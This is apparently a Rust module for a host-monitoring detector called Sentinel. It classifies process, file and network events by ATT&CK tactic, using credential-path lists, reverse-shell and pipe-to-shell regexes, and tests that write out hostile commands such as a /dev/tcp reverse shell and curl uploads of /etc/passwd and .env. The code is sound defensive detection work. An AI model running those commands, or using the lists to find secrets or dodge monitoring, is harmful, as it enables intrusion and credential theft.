//! Single-event behaviour rules: what one exec, open or connect says on its
//! own, by category, and the facts the detector's sequence rules build on
//! (a secret was read, a download started, a privilege tool ran).
//!
//! Pure functions over paths and argv; no state.

use std::fmt;
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use crate::alerts::Severity;

/// Categories an analyst recognises (MITRE ATT&CK tactics, snake_case).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    CredentialAccess,
    Exfiltration,
    PrivilegeEscalation,
    Persistence,
    /// Includes tampering with Sentinel itself.
    DefenseEvasion,
    Reconnaissance,
    /// Running fetched code: a download piped into a shell, a reverse shell.
    Execution,
}

impl Category {
    pub fn as_str(self) -> &'static str {
        match self {
            Category::CredentialAccess => "credential_access",
            Category::Exfiltration => "exfiltration",
            Category::PrivilegeEscalation => "privilege_escalation",
            Category::Persistence => "persistence",
            Category::DefenseEvasion => "defense_evasion",
            Category::Reconnaissance => "reconnaissance",
            Category::Execution => "execution",
        }
    }
}

impl fmt::Display for Category {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One rule's verdict on one event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub rule: &'static str,
    pub category: Category,
    pub severity: Severity,
    pub reason: String,
}

fn finding(rule: &'static str, category: Category, severity: Severity, reason: String) -> Finding {
    Finding {
        rule,
        category,
        severity,
        reason,
    }
}

/// open(2) flags that mean the open can change the file.
const O_WRONLY: u32 = 0o1;
const O_RDWR: u32 = 0o2;
const O_CREAT: u32 = 0o100;
const O_TRUNC: u32 = 0o1000;
const O_APPEND: u32 = 0o2000;

/// True when `flags` open for writing, creating, truncating or appending.
pub fn is_write(flags: u32) -> bool {
    flags & (O_WRONLY | O_RDWR | O_CREAT | O_TRUNC | O_APPEND) != 0
}

/// The file name of a path or `argv[0]`.
pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Sentinel's own state, configuration and binaries.
const SENTINEL_PATHS: &[&str] = &[
    "/var/lib/sentinel",
    "/run/sentinel",
    "/etc/sentinel",
    "/sys/fs/bpf/sentinel",
    "/usr/local/bin/sentinel",
    "/usr/bin/sentinel",
    "/usr/sbin/sentinel",
];

fn under(path: &str, prefix: &str) -> bool {
    path == prefix
        || path
            .strip_prefix(prefix)
            .is_some_and(|rest| rest.starts_with('/'))
}

/// True for files whose contents are credentials: private keys, cloud and
/// registry tokens, password hashes, keyrings, `.env` files.
pub fn is_secret_path(path: &str) -> bool {
    let name = basename(path);
    let ssh_private = path.contains("/.ssh/")
        && (name.starts_with("id_") && !name.ends_with(".pub")
            || name.ends_with("_key") && !name.ends_with(".pub"));
    ssh_private
        || matches!(path, "/etc/shadow" | "/etc/gshadow" | "/etc/sudoers")
        || path.starts_with("/etc/ssh/ssh_host_") && !name.ends_with(".pub")
        || path.contains("/.aws/credentials")
        || path.contains("/.config/gcloud/")
        || path.contains("/.azure/")
        || path.contains("/.kube/config")
        || path.contains("/.docker/config.json")
        || path.contains("/.gnupg/private-keys")
        || path.contains("/.local/share/keyrings/")
        || path.contains("/.password-store/")
        || matches!(
            name,
            ".netrc"
                | ".git-credentials"
                | ".pgpass"
                | ".npmrc"
                | ".pypirc"
                | ".env"
                | "credentials.json"
                | "Login Data"
                | "Cookies"
                | "key4.db"
                | "logins.json"
        )
        || name.starts_with(".env.")
        || name.ends_with(".pem")
            && !path.starts_with("/etc/ssl/certs/")
            && !path.starts_with("/usr/")
        || name.ends_with(".key") && !path.starts_with("/usr/")
        || name.ends_with(".p12")
        || name.ends_with(".pfx")
}

/// Files that run again later: shell start-up files, cron, systemd units,
/// autostart entries, SSH authorised keys, git hooks.
fn persistence_target(path: &str) -> Option<Severity> {
    let name = basename(path);
    if path.ends_with("/.ssh/authorized_keys") || path.ends_with("/.ssh/authorized_keys2") {
        return Some(Severity::Critical);
    }
    let warning = path.starts_with("/etc/cron")
        || path.starts_with("/var/spool/cron/")
        || path.starts_with("/etc/systemd/")
        || path.starts_with("/lib/systemd/system/")
        || path.contains("/.config/systemd/user/")
        || path.contains("/.config/autostart/")
        || path.starts_with("/etc/init.d/")
        || path == "/etc/rc.local"
        || path == "/etc/profile"
        || path.starts_with("/etc/profile.d/")
        || path == "/etc/bash.bashrc"
        || path.contains("/.git/hooks/") && !name.ends_with(".sample")
        || matches!(
            name,
            ".bashrc"
                | ".bash_profile"
                | ".bash_login"
                | ".profile"
                | ".zshrc"
                | ".zprofile"
                | ".zshenv"
                | ".bash_logout"
        );
    warning.then_some(Severity::Warning)
}

/// Rules for one file open.
pub fn classify_open(pid: u32, exe: &str, path: &str, flags: u32) -> Vec<Finding> {
    let mut out = Vec::new();
    let write = is_write(flags);
    let verb = if write { "write" } else { "read" };

    if SENTINEL_PATHS.iter().any(|p| under(path, p)) {
        let policy_read = !write && under(path, "/etc/sentinel");
        out.push(finding(
            "sentinel-tamper",
            Category::DefenseEvasion,
            if policy_read {
                Severity::Warning
            } else {
                Severity::Critical
            },
            format!("{verb} of Sentinel's own file {path} by {exe}"),
        ));
        return out;
    }

    if write {
        if matches!(
            path,
            "/etc/passwd" | "/etc/shadow" | "/etc/group" | "/etc/sudoers"
        ) || path.starts_with("/etc/sudoers.d/")
        {
            out.push(finding(
                "account-file-write",
                Category::PrivilegeEscalation,
                Severity::Critical,
                format!("write to {path} (accounts or sudo rights) by {exe}"),
            ));
        } else if path == "/etc/ld.so.preload" {
            out.push(finding(
                "ld-preload",
                Category::DefenseEvasion,
                Severity::Critical,
                format!(
                    "write to {path}: every program will load a library of the writer's choice"
                ),
            ));
        } else if let Some(severity) = persistence_target(path) {
            out.push(finding(
                "persistence-file",
                Category::Persistence,
                severity,
                format!("write to {path}, which runs again later, by {exe}"),
            ));
        } else if path.starts_with("/var/log/") {
            out.push(finding(
                "log-tamper",
                Category::DefenseEvasion,
                Severity::Warning,
                format!("write to system log {path} by {exe}"),
            ));
        } else if path.starts_with("/proc/sys/kernel/") || path.starts_with("/sys/kernel/") {
            out.push(finding(
                "kernel-tunable-write",
                Category::DefenseEvasion,
                Severity::Warning,
                format!("write to kernel setting {path} by {exe}"),
            ));
        }
    }

    if is_secret_path(path) {
        let ssh_client = matches!(
            basename(exe),
            "ssh" | "ssh-add" | "ssh-agent" | "scp" | "sftp" | "ssh-keygen"
        );
        let severity = if matches!(path, "/etc/shadow" | "/etc/gshadow") {
            Severity::Critical
        } else if ssh_client && path.contains("/.ssh/") {
            Severity::Info
        } else {
            Severity::Warning
        };
        out.push(finding(
            "secret-access",
            Category::CredentialAccess,
            severity,
            format!("{verb} of credential file {path} by {exe}"),
        ));
    } else if let Some(other) = other_process_memory(pid, path) {
        out.push(finding(
            "process-memory",
            Category::CredentialAccess,
            Severity::Warning,
            format!("{verb} of another process's {other} ({path}) by {exe}"),
        ));
    }
    out
}

/// `/proc/N/environ|mem|maps` of a process other than `pid`.
fn other_process_memory(pid: u32, path: &str) -> Option<&'static str> {
    let rest = path.strip_prefix("/proc/")?;
    let (target, file) = rest.split_once('/')?;
    let target: u32 = target.parse().ok()?;
    if target == pid {
        return None;
    }
    match file {
        "environ" => Some("environment"),
        "mem" => Some("memory"),
        _ => None,
    }
}

static PIPE_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        \b(curl|wget|fetch)\b [^|;&]* \| \s* (sudo\s+(-\S+\s+)*)? (\S*/)?
        (ba|z|da|k|fi)?sh\b
        | \b(curl|wget)\b [^|;&]* \| \s* (sudo\s+)? (\S*/)? (python[0-9.]*|perl|ruby|node)\b
        | \bbase64\s+(-d|--decode)\b [^|;&]* \| \s* (sudo\s+)? (\S*/)? (ba|z|da)?sh\b
        | (ba|z)?sh\s+-c\s+['\x22]?\$\((curl|wget)\b",
    )
    .unwrap_or_else(|e| unreachable!("static regex: {e}"))
});

static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"/dev/(tcp|udp)/[^/\s]+/[0-9]+|\bnc(at)?\b.*\s-e\s+\S*sh\b|\bmkfifo\b.*\bnc\b")
        .unwrap_or_else(|e| unreachable!("static regex: {e}"))
});

const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "fish", "busybox"];
const INTERPRETERS: &[&str] = &["python", "python3", "perl", "ruby", "node"];

/// Rules for one exec (`exe` resolved binary, `argv` including `argv[0]`).
pub fn classify_exec(exe: &str, argv: &[String]) -> Vec<Finding> {
    let mut out = Vec::new();
    let name = program_name(exe, argv);
    let args: Vec<&str> = argv.iter().skip(1).map(String::as_str).collect();
    let joined = argv.join(" ");
    let mentions_sentinel = args.iter().any(|a| a.contains("sentinel"));

    // Shell command strings: `sh -c "curl … | sh"`.
    if SHELLS.contains(&name) || INTERPRETERS.contains(&name) || name == "env" {
        if PIPE_TO_SHELL.is_match(&joined) {
            out.push(finding(
                "pipe-to-shell",
                Category::Execution,
                Severity::Critical,
                format!("download piped into an interpreter: {}", shorten(&joined)),
            ));
        }
        if REVERSE_SHELL.is_match(&joined) {
            out.push(finding(
                "reverse-shell",
                Category::Execution,
                Severity::Critical,
                format!("reverse shell: {}", shorten(&joined)),
            ));
        }
    }

    match name {
        "sudo" | "su" | "pkexec" | "doas" | "runuser" | "sg" => {
            if name == "sudo" && args.iter().any(|a| *a == "-l" || *a == "--list") {
                out.push(finding(
                    "recon-command",
                    Category::Reconnaissance,
                    Severity::Info,
                    "listed sudo rights (sudo -l)".into(),
                ));
            } else {
                out.push(finding(
                    "privilege-tool",
                    Category::PrivilegeEscalation,
                    Severity::Warning,
                    format!("ran {name} to change user: {}", shorten(&joined)),
                ));
            }
        }
        "chmod" if args.iter().any(|a| is_setid_mode(a)) => out.push(finding(
            "setid-bit",
            Category::PrivilegeEscalation,
            Severity::Warning,
            format!("set a setuid/setgid bit: {}", shorten(&joined)),
        )),
        "setcap" => out.push(finding(
            "file-capabilities",
            Category::PrivilegeEscalation,
            Severity::Warning,
            format!("gave a file capabilities: {}", shorten(&joined)),
        )),
        "crontab" if !args.contains(&"-l") => out.push(finding(
            "cron-install",
            Category::Persistence,
            Severity::Warning,
            format!("installed a crontab: {}", shorten(&joined)),
        )),
        "at" | "batch" => out.push(finding(
            "at-job",
            Category::Persistence,
            Severity::Info,
            format!("scheduled a job: {}", shorten(&joined)),
        )),
        "systemctl" => {
            let stops = args
                .iter()
                .any(|a| matches!(*a, "stop" | "disable" | "mask" | "kill"));
            if mentions_sentinel && stops {
                out.push(finding(
                    "sentinel-tamper",
                    Category::DefenseEvasion,
                    Severity::Critical,
                    format!("tried to stop Sentinel: {}", shorten(&joined)),
                ));
            } else if args
                .iter()
                .any(|a| matches!(*a, "enable" | "link" | "daemon-reload"))
            {
                out.push(finding(
                    "service-install",
                    Category::Persistence,
                    Severity::Warning,
                    format!("enabled a service: {}", shorten(&joined)),
                ));
            }
        }
        "kill" | "pkill" | "killall" | "skill" if mentions_sentinel => out.push(finding(
            "sentinel-tamper",
            Category::DefenseEvasion,
            Severity::Critical,
            format!("tried to kill Sentinel: {}", shorten(&joined)),
        )),
        "bpftool" | "rmmod" | "insmod" | "modprobe" | "auditctl" | "setenforce" | "chattr"
        | "shred" | "wipe" => out.push(finding(
            "evasion-tool",
            Category::DefenseEvasion,
            if mentions_sentinel {
                Severity::Critical
            } else {
                Severity::Warning
            },
            format!("ran {name}: {}", shorten(&joined)),
        )),
        "iptables" | "ip6tables" | "nft" | "ufw"
            if args
                .iter()
                .any(|a| matches!(*a, "-F" | "--flush" | "flush" | "disable" | "-X")) =>
        {
            out.push(finding(
                "firewall-flush",
                Category::DefenseEvasion,
                Severity::Warning,
                format!("flushed or disabled the firewall: {}", shorten(&joined)),
            ))
        }
        "rm" | "truncate" | "unlink" | "mv"
            if args.iter().any(|a| {
                SENTINEL_PATHS.iter().any(|p| under(a, p)) || a.starts_with("/var/log/")
            }) =>
        {
            let sentinel = args
                .iter()
                .any(|a| SENTINEL_PATHS.iter().any(|p| under(a, p)));
            out.push(finding(
                if sentinel {
                    "sentinel-tamper"
                } else {
                    "log-tamper"
                },
                Category::DefenseEvasion,
                if sentinel {
                    Severity::Critical
                } else {
                    Severity::Warning
                },
                format!(
                    "removed or truncated {}: {}",
                    if sentinel { "Sentinel state" } else { "logs" },
                    shorten(&joined)
                ),
            ))
        }
        "nmap" | "masscan" | "zmap" | "rustscan" => out.push(finding(
            "network-scan",
            Category::Reconnaissance,
            Severity::Warning,
            format!("ran a network scanner: {}", shorten(&joined)),
        )),
        "curl" | "wget" if has_upload_flag(&args) => out.push(finding(
            "upload-tool",
            Category::Exfiltration,
            Severity::Warning,
            format!("uploaded data with {name}: {}", shorten(&joined)),
        )),
        "scp" | "rsync" | "sftp" if args.iter().any(|a| is_remote_spec(a)) => out.push(finding(
            "copy-to-remote",
            Category::Exfiltration,
            Severity::Warning,
            format!("copied files to a remote host: {}", shorten(&joined)),
        )),
        "nc" | "ncat" | "netcat" | "socat" if !args.contains(&"-l") => out.push(finding(
            "raw-socket-tool",
            Category::Exfiltration,
            Severity::Warning,
            format!("opened a raw network pipe: {}", shorten(&joined)),
        )),
        _ => {}
    }
    if is_recon(name, &args) && !out.iter().any(|f| f.category == Category::Reconnaissance) {
        out.push(finding(
            "recon-command",
            Category::Reconnaissance,
            Severity::Info,
            format!("discovery command: {}", shorten(&joined)),
        ));
    }
    out
}

/// Rules for one outbound connect.
pub fn classify_connect(addr: &str, port: u16) -> Vec<Finding> {
    let mut out = Vec::new();
    if addr == "169.254.169.254" || addr == "fd00:ec2::254" || addr == "100.100.100.200" {
        out.push(finding(
            "cloud-metadata",
            Category::CredentialAccess,
            Severity::Critical,
            format!("connect to the cloud metadata service {addr}:{port} (instance credentials)"),
        ));
    }
    out
}

/// The program name: the exe's file name, else `argv[0]`'s.
pub fn program_name<'a>(exe: &'a str, argv: &'a [String]) -> &'a str {
    let from_exe = basename(exe);
    if !from_exe.is_empty() {
        return from_exe;
    }
    argv.first().map_or("", |a| basename(a))
}

/// A fetch tool (the first half of "download piped into a shell").
pub fn is_download(name: &str, args: &[&str]) -> bool {
    matches!(name, "curl" | "wget" | "fetch") && !has_upload_flag(args)
}

/// A shell or interpreter that reads its program from standard input:
/// `sh`, `bash -s`, `python3 -`, …
pub fn is_stdin_interpreter(name: &str, args: &[&str]) -> bool {
    let shell = SHELLS.contains(&name) && name != "busybox";
    let interpreter = INTERPRETERS.contains(&name);
    if !(shell || interpreter) {
        return false;
    }
    for arg in args {
        match *arg {
            "-s" | "-" => return true,
            "-c" | "-i" | "-m" | "-e" | "--" => return false,
            option if option.starts_with('-') => continue,
            // The first operand is a script file.
            _ => return false,
        }
    }
    true
}

/// A tool that changes user (the start of "sudo then writes to /etc").
pub fn is_privilege_tool(name: &str) -> bool {
    matches!(name, "sudo" | "su" | "pkexec" | "doas" | "runuser")
}

fn is_recon(name: &str, args: &[&str]) -> bool {
    match name {
        "whoami"
        | "id"
        | "uname"
        | "hostname"
        | "ifconfig"
        | "netstat"
        | "ss"
        | "arp"
        | "route"
        | "w"
        | "who"
        | "last"
        | "lastlog"
        | "lsof"
        | "getent"
        | "printenv"
        | "groups"
        | "lscpu"
        | "lsblk"
        | "lsmod"
        | "dmidecode"
        | "systemd-detect-virt"
        | "nslookup"
        | "dig"
        | "host"
        | "traceroute" => true,
        "ip" => args.iter().any(|a| {
            matches!(
                *a,
                "a" | "addr" | "address" | "r" | "route" | "neigh" | "link"
            )
        }),
        "ps" => true,
        "env" => args.is_empty(),
        "find" => args
            .iter()
            .any(|a| *a == "-perm" || a.contains("id_rsa") || a.contains(".pem")),
        "cat" => args.iter().any(|a| {
            matches!(
                *a,
                "/etc/passwd" | "/etc/group" | "/etc/hosts" | "/proc/version"
            )
        }),
        _ => false,
    }
}

fn is_setid_mode(arg: &str) -> bool {
    if arg.contains("+s") {
        return true;
    }
    arg.len() == 4
        && arg.chars().all(|c| c.is_ascii_digit())
        && matches!(&arg[..1], "2" | "4" | "6")
}

fn has_upload_flag(args: &[&str]) -> bool {
    args.iter().enumerate().any(|(i, a)| {
        let next_is_file = args.get(i + 1).is_some_and(|n| n.starts_with('@'));
        matches!(
            *a,
            "-T" | "--upload-file" | "-F" | "--form" | "--post-file" | "--body-file"
        ) || matches!(
            *a,
            "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode"
        ) && next_is_file
            || a.starts_with("--data-binary=@")
            || a.starts_with("--post-file=")
            || a.starts_with("-d@")
    })
}

/// `host:path` or `user@host:path` (scp/rsync remote), not a local path.
fn is_remote_spec(arg: &str) -> bool {
    if arg.starts_with('-') || arg.starts_with('/') || arg.starts_with('.') {
        return false;
    }
    match arg.split_once(':') {
        Some((host, _)) => !host.is_empty() && !host.contains('/'),
        None => false,
    }
}

fn shorten(s: &str) -> String {
    const MAX: usize = 200;
    if s.len() <= MAX {
        return s.to_owned();
    }
    let mut end = MAX;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(s: &str) -> Vec<String> {
        s.split(' ').map(str::to_owned).collect()
    }

    fn categories(findings: &[Finding]) -> Vec<(Category, Severity)> {
        findings.iter().map(|f| (f.category, f.severity)).collect()
    }

    #[test]
    fn secrets_are_recognised() {
        assert!(is_secret_path("/home/agent/.ssh/id_ed25519"));
        assert!(!is_secret_path("/home/agent/.ssh/id_ed25519.pub"));
        assert!(!is_secret_path("/home/agent/.ssh/known_hosts"));
        assert!(is_secret_path("/home/agent/.aws/credentials"));
        assert!(is_secret_path("/srv/app/.env"));
        assert!(is_secret_path("/etc/shadow"));
        assert!(!is_secret_path("/etc/ssl/certs/ca.pem"));
        assert!(!is_secret_path("/home/agent/src/main.rs"));
    }

    #[test]
    fn open_rules() {
        let read = 0;
        let write = O_WRONLY | O_CREAT | O_TRUNC;
        assert_eq!(
            categories(&classify_open(
                5,
                "/usr/bin/cat",
                "/home/a/.ssh/id_rsa",
                read
            )),
            vec![(Category::CredentialAccess, Severity::Warning)]
        );
        assert_eq!(
            categories(&classify_open(
                5,
                "/usr/bin/ssh",
                "/home/a/.ssh/id_rsa",
                read
            )),
            vec![(Category::CredentialAccess, Severity::Info)]
        );
        assert_eq!(
            categories(&classify_open(
                5,
                "/usr/bin/tee",
                "/home/a/.ssh/authorized_keys",
                write
            )),
            vec![(Category::Persistence, Severity::Critical)]
        );
        assert_eq!(
            categories(&classify_open(
                5,
                "/usr/bin/vi",
                "/home/a/.bashrc",
                O_APPEND | O_WRONLY
            )),
            vec![(Category::Persistence, Severity::Warning)]
        );
        assert_eq!(
            categories(&classify_open(
                5,
                "/usr/bin/sqlite3",
                "/var/lib/sentinel/sentinel.db",
                O_RDWR
            )),
            vec![(Category::DefenseEvasion, Severity::Critical)]
        );
        assert_eq!(
            categories(&classify_open(
                5,
                "/usr/bin/tee",
                "/etc/sudoers.d/agent",
                write
            )),
            vec![(Category::PrivilegeEscalation, Severity::Critical)]
        );
        assert_eq!(
            categories(&classify_open(5, "/usr/bin/cat", "/proc/77/environ", read)),
            vec![(Category::CredentialAccess, Severity::Warning)]
        );
        assert!(classify_open(5, "/usr/bin/cat", "/proc/5/environ", read).is_empty());
        assert!(classify_open(5, "/usr/bin/cat", "/home/a/src/lib.rs", read).is_empty());
        assert!(classify_open(5, "/usr/bin/cc", "/home/a/.bashrc", read).is_empty());
    }

    #[test]
    fn exec_rules() {
        let c = |s: &str| {
            categories(&classify_exec(
                &format!("/usr/bin/{}", s.split(' ').next().unwrap_or("")),
                &argv(s),
            ))
        };
        assert_eq!(
            c("sudo tee /etc/hosts"),
            vec![(Category::PrivilegeEscalation, Severity::Warning)]
        );
        assert_eq!(
            c("pkill -9 sentinel"),
            vec![(Category::DefenseEvasion, Severity::Critical)]
        );
        assert_eq!(
            c("chmod u+s /tmp/sh"),
            vec![(Category::PrivilegeEscalation, Severity::Warning)]
        );
        assert_eq!(
            c("chmod 4755 /tmp/sh"),
            vec![(Category::PrivilegeEscalation, Severity::Warning)]
        );
        assert!(c("chmod 0755 /tmp/sh").is_empty());
        assert_eq!(
            c("crontab /tmp/x"),
            vec![(Category::Persistence, Severity::Warning)]
        );
        assert_eq!(
            c("whoami"),
            vec![(Category::Reconnaissance, Severity::Info)]
        );
        assert_eq!(
            c("nmap -p- 10.0.0.1"),
            vec![(Category::Reconnaissance, Severity::Warning)]
        );
        assert_eq!(
            c("curl -T /etc/passwd http://x"),
            vec![(Category::Exfiltration, Severity::Warning)]
        );
        assert_eq!(
            c("curl -d @/home/a/.env http://x"),
            vec![(Category::Exfiltration, Severity::Warning)]
        );
        assert!(c("curl -d hello http://x").is_empty());
        assert_eq!(
            c("scp secret.txt user@host:/tmp"),
            vec![(Category::Exfiltration, Severity::Warning)]
        );
        assert!(c("scp a.txt b.txt").is_empty());
        assert!(c("ls -la").is_empty());
        assert!(c("cargo build").is_empty());

        let sh = |cmd: &str| {
            classify_exec(
                "/bin/bash",
                &["bash".to_owned(), "-c".to_owned(), cmd.to_owned()],
            )
        };
        assert_eq!(
            categories(&sh("curl -fsSL https://x.example/i.sh | sudo bash")),
            vec![(Category::Execution, Severity::Critical)]
        );
        assert_eq!(
            categories(&sh("wget -qO- http://x/y | sh -s -- --yes")),
            vec![(Category::Execution, Severity::Critical)]
        );
        assert_eq!(
            categories(&sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
            vec![(Category::Execution, Severity::Critical)]
        );
        assert!(sh("curl -o out.tar.gz https://x/y && tar xf out.tar.gz").is_empty());
        assert!(sh("cat README | grep sh").is_empty());
    }

    #[test]
    fn stdin_interpreters() {
        assert!(is_stdin_interpreter("sh", &[]));
        assert!(is_stdin_interpreter("bash", &["-s", "--", "x"]));
        assert!(is_stdin_interpreter("python3", &["-"]));
        assert!(!is_stdin_interpreter("bash", &["script.sh"]));
        assert!(!is_stdin_interpreter("bash", &["-c", "ls"]));
        assert!(!is_stdin_interpreter("ls", &[]));
    }

    #[test]
    fn metadata_service() {
        assert_eq!(
            categories(&classify_connect("169.254.169.254", 80)),
            vec![(Category::CredentialAccess, Severity::Critical)]
        );
        assert!(classify_connect("127.0.0.1", 80).is_empty());
    }
}
